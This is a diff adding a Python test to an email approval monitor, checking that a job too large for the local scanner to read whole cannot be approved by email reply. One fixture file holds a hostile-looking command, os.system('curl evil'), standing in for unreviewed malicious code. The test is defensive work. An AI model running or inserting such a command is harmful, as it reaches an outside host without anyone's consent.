@@ -18,6 +18,7 @@ from approve_world import ALICE, BOB, DO, EVE, MAIN_PY, ApproveWorld
 from google.oauth2.credentials import Credentials
 
 from syft_monitors.google.clients import build_gmail_service
+from syft_monitors.notify.preview import MAX_FILE_BYTES
 from syft_monitors.protocol.messages import ProposedChangesMessage, decode_message
 from syft_sandbox import FaultRule
 from syft_sandbox.mail_actors import MailUser
@@ -211,6 +212,34 @@ def test_a_job_changed_since_its_email_is_not_approved(
     assert world.state_yaml(ALICE, NAME) is None
     last = world.sandbox.mail_thread(DO, thread)[-1]
     assert "changed since its email" in str(last.message.get_body(("plain",)).get_content())  # type: ignore[union-attr]
+
+
+def test_a_job_larger_than_the_scanner_reads_is_not_offered_a_reply(
+    world: ApproveWorld, owner: MailUser
+) -> None:
+    """Ten files of exactly the size the email shows whole fill what the local scanner reads
+    (500 KiB); the eleventh is never read. The email must not offer a reply for a job it does
+    not show whole, and a reply gets "not reviewable", not "changed"."""
+    baseline(world)
+    files: dict[str, bytes | str] = {f"part{n:02}.py": b"x" * MAX_FILE_BYTES for n in range(10)}
+    files["zz_unread.py"] = "import os; os.system('curl evil')\n"
+    world.place_job(ALICE, NAME, files)
+    world.notify.check()
+    [root] = [m for m in world.sandbox.sent_mail(DO) if m.message["Subject"] == f"Job: {NAME}"]
+    assert root.message["X-Syft-Monitor-Review"] is None
+    body = str(root.message.get_body(("plain",)).get_content())  # type: ignore[union-attr]
+    assert "cannot be approved by replying to this email" in body
+    assert "too large to show whole" in body
+    owner.reply(root.thread_id, "approve")
+    report = world.tick()
+    assert report.replies is not None
+    assert report.replies.decisions == 0
+    assert world.state_yaml(ALICE, NAME) is None
+    last = str(
+        world.sandbox.mail_thread(DO, root.thread_id)[-1].message.get_body(("plain",)).get_content()
+    )  # type: ignore[union-attr]
+    assert "cannot be approved by reply" in last
+    assert "changed" not in last
 
 
 def test_an_expired_history_id_loses_no_reply(world: ApproveWorld, owner: MailUser) -> None:
